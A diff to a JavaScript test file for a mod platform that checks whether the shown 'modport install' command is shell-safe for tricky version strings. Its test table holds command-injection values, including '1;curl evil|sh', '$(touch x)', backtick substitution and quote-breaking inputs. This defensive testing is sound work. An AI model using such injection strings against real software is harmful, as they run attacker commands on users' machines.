@@ -131,26 +131,26 @@ describe('the page of a version', () => {
   });
 
   it.each([
-    ['1.0.0+mc.1-x_y', '@1.0.0+mc.1-x_y'],
-    ['1.0 (бета), [forge]', '@1.0 (бета), [forge]'],
-    ['1;curl evil|sh', ''],
-    ['$(touch x)', ''],
-    ['`touch x`', ''],
-    ['1&calc', ''],
-    ['%PATH%', ''],
-    ['!!', ''],
-    ['1" & calc "', ''],
-    ["1' && touch x '", ''],
-    ['1” ; calc “', ''],
-    ['1\\', ''],
-    ['1\ntouch x', ''],
+    ['1.0.0+mc.1-x_y', '1.0.0+mc.1-x_y'],
+    ['1.0 (бета), [forge]', '1.0 (бета), [forge]'],
+    ['1;curl evil|sh', null],
+    ['$(touch x)', null],
+    ['`touch x`', null],
+    ['1&calc', null],
+    ['%PATH%', null],
+    ['!!', null],
+    ['1" & calc "', null],
+    ["1' && touch x '", null],
+    ['1” ; calc “', null],
+    ['1\\', null],
+    ['1\ntouch x', null],
   ])('the install command of the version %j is harmless in every shell', async (version, named) => {
     const id = await storedMod(world, ann, 'brackenvale');
     const bytes = Buffer.from('installable');
     const { versionId } = await storedVersion(world, ann, id, { version }, bytes);
     const { html } = await open(`/mods/${id}/versions/${versionId}`);
     const { slug } = await world.platform.db.mod.findUniqueOrThrow({ where: { id } });
-    const word = `brackenvale/${slug}${named}`;
+    const word = `brackenvale/${slug}@${named ?? versionId}`;
     const shown = /[ ,]/.test(word) ? `&quot;${word}&quot;` : word;
     const command = `modport install ${shown} --server ${world.platform.publicUrl}`;
     expect(html).toContain(`<code class="secret">${command}</code>`);
